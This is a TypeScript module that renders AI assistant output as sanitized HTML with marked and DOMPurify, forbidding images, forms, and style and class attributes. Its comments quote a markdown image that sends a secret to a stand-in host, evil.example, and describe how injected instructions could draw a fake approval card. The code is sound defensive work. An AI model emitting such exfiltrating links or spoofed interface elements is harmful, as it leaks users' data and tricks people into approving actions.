// Assistant text → sanitized HTML. marked parses, DOMPurify removes anything executable; the
// result is the only HTML the app ever injects.
import DOMPurify from 'dompurify';
import { marked } from 'marked';

let hooked = false;

function ensureLinkHook(): void {
  if (hooked) return;
  hooked = true;
  // Links from model output open in a new tab and never get a handle on this one.
  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer nofollow');
    }
  });
}

/**
 * Tags dropped on top of DOMPurify's defaults. Images go too: a remote image in model output is
 * a request the user never made, and the classic way for injected instructions to leak data
 * (`![](https://evil.example/?q=<secret>)`).
 */
const FORBIDDEN_TAGS = ['img', 'picture', 'video', 'audio', 'source', 'style', 'form', 'input', 'button', 'textarea', 'select'];

/**
 * Attributes dropped too. `style` and `class` would let model output dress itself as the app:
 * a fixed overlay over the page, or a fake approval card with the real buttons' classes, which is
 * how an injected instruction could get a person to press Approve on something else.
 */
const FORBIDDEN_ATTRIBUTES = ['style', 'class'];

export function renderMarkdown(text: string): string {
  ensureLinkHook();
  const html = marked.parse(text, { async: false, gfm: true, breaks: false });
  return DOMPurify.sanitize(html, { USE_PROFILES: { html: true }, FORBID_TAGS: FORBIDDEN_TAGS, FORBID_ATTR: FORBIDDEN_ATTRIBUTES });
}

/**
 * Small texts that between them take marked's and DOMPurify's usual paths (block rules, inline
 * rules, the sanitizer's first parse). The first conversion in a tab compiles all of that: for
 * the first block of a streamed 1 MiB answer it was a 70–95 ms task (Chromium trace, bench/);
 * warm, a 4 kB block takes about 0.1 ms.
 */
const WARM_UP_TEXTS = [
  'A paragraph with *emphasis*, **strong**, `code`, a [link](https://example.com) and a line\nthat goes on.',
  '# Heading\n\nSetext\n======\n\n---\n\n> quoted *text*',
  '- one\n- two\n  - nested\n\n1. first\n2. second\n\n- [ ] task',
  '```js\nconst a = 1;\n```\n\n    indented code\n\n<b>inline html</b>',
  '| a | b |\n|---|:-:|\n| 1 | ~~2~~ |\n\nhttps://example.com/autolink',
];

/** Converts the warm-up texts one per idle moment, so a tab's first answer renders warm. */
export function warmUpMarkdown(whenIdle: (step: () => void) => void = onIdle): void {
  let next = 0;
  const step = () => {
    renderMarkdown(WARM_UP_TEXTS[next++]!);
    if (next < WARM_UP_TEXTS.length) whenIdle(step);
  };
  whenIdle(step);
}

function onIdle(step: () => void): void {
  if (typeof requestIdleCallback === 'function') requestIdleCallback(step, { timeout: 2_000 });
  else setTimeout(step, 50);
}
